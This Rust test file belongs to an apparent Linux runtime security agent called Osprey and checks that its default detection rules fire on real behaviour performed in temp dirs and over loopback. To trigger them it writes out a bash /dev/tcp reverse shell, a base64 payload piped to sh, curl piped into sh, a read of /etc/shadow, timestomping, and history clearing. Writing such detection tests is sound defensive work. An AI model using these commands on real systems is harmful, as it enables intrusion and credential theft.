//! The default rule pack on the real kernel (root): behaviours performed for real — in temp dirs,
//! against the test's own processes, loopback only — raise their alerts, with a story that
//! starts from the test's own process tree.

use std::{
    collections::BTreeSet,
    os::{fd::FromRawFd, unix::fs::PermissionsExt},
    path::Path,
    process::{Command, Stdio},
    time::Duration,
};

use agent::event::EventBody;
use osprey_tests::{canonical, test_config, Harness};

const WORKLOAD: &str = env!("CARGO_BIN_EXE_osprey-workload");

fn rules_dir() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

fn sh(script: &str) {
    let _ = Command::new("/bin/sh").args(["-c", script]).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
}

fn run(path: &Path, args: &[&str]) {
    let _ = Command::new(path).args(args).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
}

fn copy_exec(from: &str, to: &Path) {
    std::fs::copy(canonical(from), to).unwrap();
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn behaviours_performed_for_real_raise_their_default_rules_with_the_story() {
    let dir = tempfile::tempdir().unwrap(); // under /tmp: "execution from a temporary directory"
    let d = dir.path();
    let mut cfg = test_config();
    cfg.rules.paths = vec![rules_dir()];
    let mut h = Harness::start(cfg);

    // (rule id, what the test does)
    let expected: Vec<(&str, &str)> = vec![
        ("4c55f136-5a02-4d0a-8910-c7a46f34cfb5", "reverse shell through bash /dev/tcp (loopback, refused)"),
        ("76476bf6-ded8-45b2-82cd-2cc2676879bf", "base64-decoded payload piped to a shell"),
        ("3a73632f-3c25-4ecf-81c5-32d280fc0e9d", "download piped into a shell (loopback, refused)"),
        ("53876303-0243-4714-bf06-c2461b2669a9", "execution from a temporary directory"),
        ("4333790b-8ea6-4795-96f2-4dbb3e4e325e", "fileless execution from a memfd"),
        ("e2c4f3bc-a242-4b27-a0ce-3c8cd41fed85", "execution of a deleted binary"),
        ("69abb76e-7282-4c6f-85f5-e2a9195f0aa0", "/etc/shadow read by an unexpected process"),
        ("b07cd738-f850-40bc-97d9-7e941b20baac", "timestomping with touch -d"),
        ("8949c57c-5c24-4137-8555-0573de1b59a7", "a crypto miner (xmrig) executed"),
        ("17fb1f43-6c3a-4b0a-b366-e5db592664df", "a web server (nginx) spawning a shell"),
        ("b31423b0-e748-4f58-a656-a9dceda86e3b", "ptrace attach by a non-debugger"),
        ("5e7074fc-8f91-473c-aa7a-13bca24771cb", "a BPF program loaded by an unexpected process"),
        ("954a946a-525f-4d03-abf7-6157495dd470", "shell history cleared"),
        ("12db9523-86a0-44f3-87a0-acc34878e0e5", "nsenter into the namespaces of PID 1"),
    ];

    sh("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'");
    sh("echo ZWNobyBvc3ByZXk= | base64 -d | sh");
    sh("curl -fsS --max-time 2 http://127.0.0.1:9/install.sh | sh");
    let in_tmp = d.join("dropper");
    copy_exec("/bin/true", &in_tmp);
    run(&in_tmp, &[]);
    run(Path::new(WORKLOAD), &["memfd-exec"]);
    {
        // exec a file that no longer has a name
        let gone = d.join("vanishing");
        copy_exec("/bin/true", &gone);
        let fd = nix::fcntl::open(&gone, nix::fcntl::OFlag::O_RDONLY, nix::sys::stat::Mode::empty()).unwrap();
        // SAFETY: a fresh fd we own; not close-on-exec so the child can exec it.
        let fd = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
        std::fs::remove_file(&gone).unwrap();
        run(Path::new(&format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&fd))), &[]);
    }
    run(Path::new(WORKLOAD), &["read", "/etc/shadow"]);
    let victim = d.join("victim.txt");
    std::fs::write(&victim, "x").unwrap();
    run(Path::new("/usr/bin/touch"), &["-d", "2001-01-01 00:00", victim.to_str().unwrap()]);
    let miner = d.join("xmrig");
    copy_exec("/bin/true", &miner);
    run(&miner, &["--donate-level", "1"]);
    let nginx = d.join("nginx");
    copy_exec("/bin/bash", &nginx);
    run(&nginx, &["-c", "/bin/bash -c true; true"]);
    run(Path::new(WORKLOAD), &["ptrace"]);
    run(Path::new(WORKLOAD), &["bpf-load"]);
    sh("bash -c 'history -c'");
    run(Path::new("/usr/bin/nsenter"), &["-t", "1", "-m", "--", "/bin/true"]);

    let want: BTreeSet<&str> = expected.iter().map(|(id, _)| *id).collect();
    let fired = |h: &Harness| -> BTreeSet<String> {
        h.events
            .iter()
            .filter_map(|e| match &e.body {
                EventBody::Alert(a) => a.alert.rule.id.clone().filter(|id| want.contains(id.as_str())),
                _ => None,
            })
            .collect()
    };
    h.wait_for(Duration::from_secs(15), |_| false);
    let got = fired(&h);
    for (id, what) in &expected {
        eprintln!("{} {what} ({id})", if got.contains(*id) { "fired " } else { "MISSED" });
    }
    assert!(got.len() >= 10, "at least ten default rules triggered by real behaviour, got {}: {got:?}", got.len());

    // The story: every alert we caused names a process whose ancestry reaches this test, with a
    // root cause, the rule's ATT&CK mapping, and the events that led to it.
    let me = std::process::id();
    let mut checked = 0;
    for e in &h.events {
        let EventBody::Alert(a) = &e.body else { continue };
        if !a.alert.rule.id.as_deref().is_some_and(|id| want.contains(id)) {
            continue;
        }
        let Some(ctx) = &a.ctx else { continue };
        if !ctx.ancestry.iter().any(|x| x.pid == me) && ctx.process.pid != me {
            continue; // the same rule may fire for something else on the host
        }
        checked += 1;
        let v = h.ecs.to_value(e);
        assert_eq!(v["event"]["kind"], "alert");
        assert!(v["event"]["severity"].as_u64().unwrap() > 0);
        assert!(v["rule"]["name"].as_str().is_some_and(|n| !n.is_empty()));
        assert!(v["threat"]["technique"]["id"][0].as_str().is_some_and(|t| t.starts_with('T')), "{}", v["rule"]["name"]);
        assert!(!v["osprey"]["alert"]["root_cause"].is_null(), "a root cause for {}", v["rule"]["name"]);
        assert!(v["osprey"]["alert"]["story"].as_array().is_some_and(|s| !s.is_empty()), "a story for {}", v["rule"]["name"]);
        assert!(!v["osprey"]["alert"]["trigger"].is_null());
        assert!(v["process"]["ancestry"].as_array().is_some_and(|a| a.iter().any(|x| x["pid"] == me)));
    }
    assert!(checked >= 10, "ten alerts from this test's own process tree, checked {checked}");
    h.stop();
}

#[test]
fn a_rule_hit_again_and_again_by_one_process_alerts_once_a_window_and_counts_the_rest() {
    const N: usize = 200;
    let dir = tempfile::tempdir().unwrap();
    let rules = tempfile::tempdir().unwrap();
    let mark = osprey_tests::marker();
    let id = "0b7f3a52-4c1e-4d6a-9f0e-2a8c5d1e7b31";
    std::fs::write(
        rules.path().join("repeat.yml"),
        format!(
            "title: Repeat test\nid: {id}\nstatus: test\ndescription: repeats\nauthor: Osprey tests\nlevel: medium\n\
             logsource: {{product: linux, category: file_event}}\n\
             detection:\n  selection:\n    TargetFilename|contains: {mark}\n  condition: selection\n"
        ),
    )
    .unwrap();
    let mut cfg = test_config();
    cfg.rules.paths = vec![rules.path().to_path_buf()];
    cfg.rules.repeat_window = Duration::from_secs(3);
    let mut h = Harness::start(cfg);
    let m = canonical(dir.path().to_str().unwrap());
    // One shell creates N matching files (no fork: `:` is a builtin), waits out the window,
    // then one more: N alerts' worth of hits from one process.
    let script = format!("i=0; while [ $i -lt {N} ]; do : > {m}/{mark}-$i; i=$((i+1)); done; sleep 3.5; : > {m}/{mark}-last");
    let mut child = Command::new("/bin/sh").args(["-c", &script]).spawn().unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success());
    let ours = |e: &agent::event::Event| match &e.body {
        EventBody::Alert(a) if a.alert.rule.id.as_deref() == Some(id) => a.ctx.as_ref().filter(|c| c.process.pid == pid).map(|_| a.repeats),
        _ => None,
    };
    let done = h.wait_for(Duration::from_secs(15), |evs| evs.iter().filter_map(ours).count() >= 2);
    h.wait_for(Duration::from_millis(500), |_| false); // nothing more should come
    let repeats: Vec<u64> = h.events.iter().filter_map(ours).collect();
    let held = h.metrics.alerts_suppressed(id);
    eprintln!("repeats: alerts carry {repeats:?}, {held} held back");
    assert!(done, "two alerts from the shell: {repeats:?}");
    // The first hit alerts; the other N - 1 of the burst are held back and counted; the hit
    // after the window alerts again and carries them.
    assert_eq!(repeats, vec![0, (N - 1) as u64]);
    assert_eq!(held, (N - 1) as u64);
    let last = h.events.iter().rev().find(|e| ours(e).is_some()).unwrap();
    assert_eq!(h.ecs.to_value(last)["osprey"]["alert"]["repeats"], (N - 1) as u64);
    h.stop();
}
